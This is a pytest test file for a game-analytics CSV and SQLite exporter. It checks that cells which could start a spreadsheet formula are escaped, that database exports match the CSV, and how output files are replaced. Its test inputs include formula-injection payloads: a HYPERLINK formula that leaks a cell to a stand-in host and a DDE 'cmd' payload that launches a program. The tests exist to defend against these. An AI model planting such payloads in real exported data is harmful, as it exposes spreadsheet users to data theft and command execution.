"""Exports: CSV in which no spreadsheet finds a formula, and SQLite databases of the same values."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import sqlite3
import sys
import unicodedata
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ecsnet.analytics.export import Cell, Json, Table, to_csv
from ecsnet.analytics.records import Declared
from ecsnet.cli import main as cli
from ecsnet.errors import UsageError
from ecsnet.schema import PLAIN
from tests.analytics.played import A, B, C, Played, some_matches

Run = Callable[..., tuple[int, str, str]]


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The current folder, with a journal in it."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("ECSNET_MONGO_URI", raising=False)
    some_matches().write(tmp_path / "analytics")
    return tmp_path


@pytest.fixture
def run(folder: Path, capsys: pytest.CaptureFixture[str]) -> Run:
    def call(*arguments: object) -> tuple[int, str, str]:
        try:
            status = cli.main(["analytics", *map(str, arguments)])
        except SystemExit as end:
            status = int(end.code or 0)
        captured = capsys.readouterr()
        return status, captured.out, captured.err

    return call


# Formulas.


def written(*cells: Cell) -> list[str]:
    """What a reader of the CSV finds in a row of these cells."""
    out = io.StringIO(newline="")
    to_csv(Table([str(n) for n in range(len(cells))], [cells]), out)
    header, row = csv.reader(io.StringIO(out.getvalue(), newline=""))
    assert len(header) == len(row)
    return row


UNSEEN = " \t\r\n\0\xa0\u200b\u2028\ufeff\u3000"


def begins_formula(cell: str) -> bool:
    """Whether a spreadsheet that trims whatever it can would calculate a cell."""
    seen = [c for c in cell if c.isprintable() and not c.isspace()]
    return bool(seen) and unicodedata.normalize("NFKC", seen[0])[:1] in "=+-@"


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("//e/"&A1)',
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1)",
        "-1",
        "\t=1",
        "\rtext",
        "\ntext",
        "  =1",
        "\0=1",
        "\ufeff=1",
        "\xa0\u200b@A1",
        "\uff1d1+1",
        "\uff0b1",
        "\ufe631",
        "=",
    ],
)
def test_a_text_that_could_be_a_formula_is_marked_as_text(text: str) -> None:
    (cell,) = written(text)
    assert cell.startswith("'")
    assert cell.replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize(
    "text",
    [
        "",
        "Ada",
        "a=b",
        "a@b.org",
        "1-2",
        "'=1",
        "Zoë",
        "-Infinity",
        "-18446744073709551616",
        " a",
        "x - y",
    ],
)
def test_all_other_texts_are_as_they_are(text: str) -> None:
    assert written(text, "x") == [text, "x"]


def test_numbers_stay_numbers() -> None:
    assert written(-1, -2.5, 0, 1e300, None) == ["-1", "-2.5", "0", "1e+300", ""]


@given(st.text(alphabet=st.sampled_from(f"=+-@\uff1da;,'\"{UNSEEN}"), max_size=12))
def test_no_text_begins_a_formula_wherever_a_spreadsheet_cuts(text: str) -> None:
    out = io.StringIO(newline="")
    to_csv(Table(["name"], [[text], [Json(json.dumps({"name": text}))]]), out)
    _, (cell,), (data,) = csv.reader(io.StringIO(out.getvalue(), newline=""))
    assert json.loads(data) == {"name": text}
    # By a program that knows commas, and by one that takes semicolons and tabs instead.
    for cut in ([cell], cell.replace("\t", ";").replace("\r", ";").replace("\n", ";").split(";")):
        assert not any(map(begins_formula, cut))
    assert not any(map(begins_formula, data.split(";")))
    rows = out.getvalue().split("\n")
    assert rows[0] == "name"


def test_a_carriage_return_begins_no_row() -> None:
    out = io.StringIO(newline="")
    to_csv(Table(["a", "b"], [["x\ry", "z"]]), out)
    assert out.getvalue() == 'a,b\n"x\ry",z\n'


def test_names_of_columns_are_texts_too(run: Run, folder: Path) -> None:
    declared = Declared("=1+1", "game.Odd", ("x", "=cmd"), (PLAIN, PLAIN))
    played = Played([declared])
    number = played.match("ab", room="@room")
    played.snapshot(number, 1, {1: (1, {"=1+1": (-3, "=2")})})
    played.event(number, "+type", 1, own=False, text="=3;=4")
    played.write(folder / "odd")
    _, out, _ = run("export", "--to", "csv", "--what", "states", "--dir", "odd")
    header, row = csv.reader(io.StringIO(out))
    assert header[-2:] == ["'=1+1_x", "'=1+1_=cmd"]
    assert row[-2:] == ["-3", "'=2"]
    assert row[3] == "'@room"
    _, out, _ = run("export", "--to", "csv", "--dir", "odd")
    row = list(csv.reader(io.StringIO(out)))[-1]
    assert row[6] == "'+type"
    assert ";" not in row[-1]
    assert json.loads(row[-1]) == {"text": "=3;=4"}


# SQLite.


@contextlib.contextmanager
def opened(path: Path) -> Iterator[sqlite3.Connection]:
    with contextlib.closing(sqlite3.connect(path)) as database:
        yield database


def table(path: Path, name: str) -> tuple[list[str], list[list[str]]]:
    """A table's columns, and its rows as a CSV has them but for the marks of texts."""
    with opened(path) as database:
        cursor = database.execute(f'SELECT * FROM "{name}"')
        columns = [column[0] for column in cursor.description]
        return columns, [["" if v is None else str(v) for v in row] for row in cursor]


def plain_csv(text: str) -> tuple[list[str], list[list[str]]]:
    header, *rows = csv.reader(io.StringIO(text))
    return header, [[cell.removeprefix("'") for cell in row] for row in rows]


@pytest.mark.parametrize("wanted", ["all", "a1", "c0"])
def test_a_database_holds_what_the_csv_holds(run: Run, folder: Path, wanted: str) -> None:
    assert run("export", "--to", "sqlite", "--out", "made.db", wanted) == (0, "", "")
    for name in ("events", "states"):
        out = run("export", "--to", "csv", "--what", name, wanted)[1]
        assert table(folder / "made.db", name) == plain_csv(out)
    columns, rows = table(folder / "made.db", "matches")
    assert columns[:8] == [
        *("match", "started", "server", "room", "tick_rate", "ended", "reason", "ticks")
    ]
    ids = {"all": [A, B, C], "a1": [A], "c0": [C]}[wanted]
    assert [row[0] for row in rows] == ids
    assert json.loads(rows[0][8])[0]["fields"] == ["x", "y"]
    assert sorted(path.name for path in folder.iterdir()) == ["analytics", "made.db"]


def test_values_are_what_they_were(run: Run, folder: Path) -> None:
    declared = Declared("bag", "game.Bag", ("a", "b", "c", "d", "e", "f"), (PLAIN,) * 6)
    played = Played([declared])
    number = played.match("ab")
    values = (-5, 0.1, "007", True, [1, {"k": None}], 2**63)
    played.snapshot(number, 1, {1: (None, {"bag": values}), 2: (7, {})})
    played.event(number, "found", 1, own=False, text="=1", n=-1)
    played.write(folder / "bags")
    assert run("export", "--to", "sqlite", "--out", "bags.db", "--dir", "bags")[0] == 0
    with opened(folder / "bags.db") as database:
        first, second = database.execute(
            "SELECT owner, bag_a, bag_b, bag_c, bag_d, bag_e, bag_f FROM states ORDER BY entity"
        )
        assert first[:5] == (None, -5, 0.1, "007", "true")
        assert json.loads(first[5]) == [1, {"items": [{"k": "k", "v": None}]}]
        assert first[6] == "9223372036854775808"
        assert second == (7, None, None, None, None, None, None)
        assert database.execute(
            "SELECT data ->> 'text', data ->> 'n' FROM events WHERE type = 'found'"
        ).fetchall() == [("=1", -1)]
        joined = "SELECT count(*) FROM events JOIN matches USING (match) WHERE ticks >= events.tick"
        assert database.execute(joined).fetchone() == (2,)


def test_fields_of_one_name_have_a_column_each(run: Run, folder: Path) -> None:
    declared = [
        Declared("a", "game.A", ("b_c", "B_C"), (PLAIN,) * 2),
        Declared("a_b", "game.AB", ("c",), (PLAIN,)),
    ]
    played = Played(declared)
    number = played.match("ab")
    played.snapshot(number, 1, {1: (1, {"a": (1, 2), "a_b": (3,)})})
    played.write(folder / "alike")
    place = ("--dir", "alike")
    assert run("export", "--to", "sqlite", "--out", "alike.db", *place) == (0, "", "")
    columns, rows = table(folder / "alike.db", "states")
    assert columns[-3:] == ["a_b_c", "a_B_C_2", "a_b_c_3"]
    assert rows[0][-3:] == ["1", "2", "3"]
    assert (columns, rows) == plain_csv(run("export", "--to", "csv", "--what", "states", *place)[1])


@pytest.mark.parametrize(
    ("what", "tables"),
    [
        (None, ["events", "matches", "states"]),
        ("events", ["events", "matches"]),
        ("states", ["matches", "states"]),
    ],
)
def test_what_is_in_it(run: Run, folder: Path, what: str | None, tables: list[str]) -> None:
    options = () if what is None else ("--what", what)
    assert run("export", "--to", "sqlite", "--out", "made.db", *options)[0] == 0
    with opened(folder / "made.db") as database:
        found = database.execute("SELECT name FROM sqlite_schema ORDER BY name").fetchall()
    assert [name for (name,) in found] == tables


def test_a_match_without_its_schema_has_what_is_there(run: Run, folder: Path) -> None:
    played = Played()
    number = played.match("ab", starts=False)
    played.event(number, "join", 1, 1, 1, name="Ada")
    played.snapshot(number, 1, {1: (1, {"score": (3, "squire")})})
    played.write(folder / "other")
    assert run("export", "--to", "sqlite", "--out", "o.db", "--dir", "other")[0] == 0
    with opened(folder / "o.db") as database:
        assert database.execute("SELECT score_coins, score_title FROM states").fetchall() == [
            (3, "squire")
        ]


def test_what_was_shipped_makes_the_same_database(run: Run, folder: Path, database: str) -> None:
    assert run("ship", "analytics", "--mongo", database, "--driver", "pymongo")[0] == 0
    assert run("export", "--to", "sqlite", "--out", "journal.db")[0] == 0
    assert run("export", "--to", "sqlite", "--out", "mongo.db", "--mongo", database)[0] == 0
    for name in ("matches", "events", "states"):
        columns, rows = table(folder / "mongo.db", name)
        expected = table(folder / "journal.db", name)
        assert (columns, sorted(rows)) == (expected[0], sorted(expected[1]))
        assert rows


# Where to.


def test_a_database_that_is_there_is_replaced_as_a_csv_is(run: Run, folder: Path) -> None:
    old = folder / "made.db"
    with opened(old) as database:
        database.execute("PRAGMA journal_mode = WAL")
        database.execute("CREATE TABLE other (x)")
        database.commit()
        stale = {ending: Path(f"{old}{ending}") for ending in ("-wal", "-shm")}
        kept = {path: path.read_bytes() for path in stale.values()}
    for path, data in kept.items():
        path.write_bytes(data)  # as of a program that died
    Path(f"{old}-journal").write_bytes(b"stale")
    assert run("export", "--to", "sqlite", "--out", "made.db") == (0, "", "")
    assert len(table(old, "events")[1]) == 22
    with pytest.raises(sqlite3.OperationalError, match="no such table"):
        table(old, "other")
    assert sorted(path.name for path in folder.iterdir()) == ["analytics", "made.db"]


def test_one_that_fails_leaves_the_old_one(
    run: Run, folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from ecsnet.analytics import sqlite

    assert run("export", "--to", "sqlite", "--out", "made.db", "a1")[0] == 0
    before = (folder / "made.db").read_bytes()
    fill = sqlite._fill

    def full(*given: object) -> None:
        fill(*given)  # type: ignore[arg-type]
        raise sqlite3.OperationalError("database or disk is full")

    monkeypatch.setattr(sqlite, "_fill", full)
    status, out, err = run("export", "--to", "sqlite", "--out", "made.db")
    assert (status, out) == (2, "")
    assert "made.db cannot be written: database or disk is full" in err
    assert (folder / "made.db").read_bytes() == before
    assert sorted(path.name for path in folder.iterdir()) == ["analytics", "made.db"]


def test_a_link_stays_one(run: Run, folder: Path) -> None:
    (folder / "there").mkdir()
    (folder / "link.db").symlink_to(folder / "there" / "real.db")
    assert run("export", "--to", "sqlite", "--out", "link.db")[0] == 0
    assert (folder / "link.db").is_symlink()
    assert len(table(folder / "there" / "real.db", "events")[1]) == 22


def test_a_link_to_itself_becomes_the_database(run: Run, folder: Path) -> None:
    (folder / "loop.db").symlink_to("loop.db")
    assert run("export", "--to", "sqlite", "--out", "loop.db")[0] == 0
    assert not (folder / "loop.db").is_symlink()
    assert len(table(folder / "loop.db", "events")[1]) == 22


def test_where_nothing_can_be_made_the_system_says_why(folder: Path) -> None:
    from ecsnet.analytics import export, sqlite

    with pytest.raises(UsageError, match="No such file or directory: is the name spelt right"):
        sqlite.write(folder / "gone" / "x.db", {"a": export.Table(["b"], [[1]])})
    many = export.Table([f"c{number}" for number in range(2001)], [])
    with pytest.raises(UsageError, match=r"too many columns .* more of it than a database"):
        sqlite.write(folder / "x.db", {"a": many})
    assert sorted(path.name for path in folder.iterdir()) == ["analytics"]


@pytest.mark.parametrize(
    ("typed", "says"),
    [
        ("export --to sqlite", "a SQLite database is a file: give --out FILE.db"),
        ("export --to sqlite --out .", ". is no file: name one for the database"),
        ("export --to sqlite --out /dev/null", "/dev/null is no file: name one for the database"),
        ("export --to sqlite --out nowhere/x.db", "there is no folder nowhere"),
        ("export --to sqlite --out x.db zz", "there is no match 'zz' among the 3 in analytics"),
        ("export --to duckdb --out x.db", "invalid choice: 'duckdb'"),
    ],
)
def test_what_is_typed_wrong_is_one_line(run: Run, folder: Path, typed: str, says: str) -> None:
    status, out, err = run(*typed.split())
    assert (status, out) == (2, "")
    assert says in err
    assert err.count("\n") == 1
    assert not (folder / "x.db").exists()


def test_a_python_without_sqlite_says_so(run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("sqlite3", "ecsnet.analytics.sqlite"):
        monkeypatch.delitem(sys.modules, name, raising=False)
    for name in list(sys.modules):
        if name.startswith("sqlite3."):
            monkeypatch.delitem(sys.modules, name)
    monkeypatch.setitem(sys.modules, "_sqlite3", None)
    import ecsnet.analytics

    monkeypatch.delattr(ecsnet.analytics, "sqlite", raising=False)
    status, _, err = run("export", "--to", "sqlite", "--out", "x.db")
    assert status == 2
    assert "this Python was built without SQLite" in err
